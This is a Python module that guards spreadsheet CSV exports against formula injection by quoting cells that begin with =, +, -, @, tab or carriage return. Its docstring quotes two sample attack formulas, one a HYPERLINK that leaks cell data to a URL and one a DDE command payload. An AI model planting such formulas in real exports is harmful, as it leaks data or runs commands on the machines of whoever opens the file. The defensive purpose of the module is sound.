"""CSV for spreadsheets: a cell that a spreadsheet would read as a formula is written as text.

Customers' words reach the exports (a trace's query and reply), and a cell beginning with `=`, `+`, `-`, `@`,
a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets
(`=HYPERLINK("http://…?leak="&A1, "Factura")`, `=cmd|'/C calc'!A0`). Following OWASP's advice on CSV
injection, such a cell is prefixed with a single quote: the spreadsheet shows the text and runs nothing.
Numbers the app computed (ints, floats, decimals) are written as numbers, negative ones included; JSON Lines
exports never pass through here and keep the text exact.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """Return the value as a spreadsheet should receive it: text that starts like a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A csv.writer whose every text cell goes through `cell`; the same writerow/writerows interface."""

    def __init__(self, target, **options):
        self._writer = csv.writer(target, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(target, **options) -> SafeWriter:
    """Return a CSV writer on `target` (anything with write) that neutralises formula-like cells."""
    return SafeWriter(target, **options)
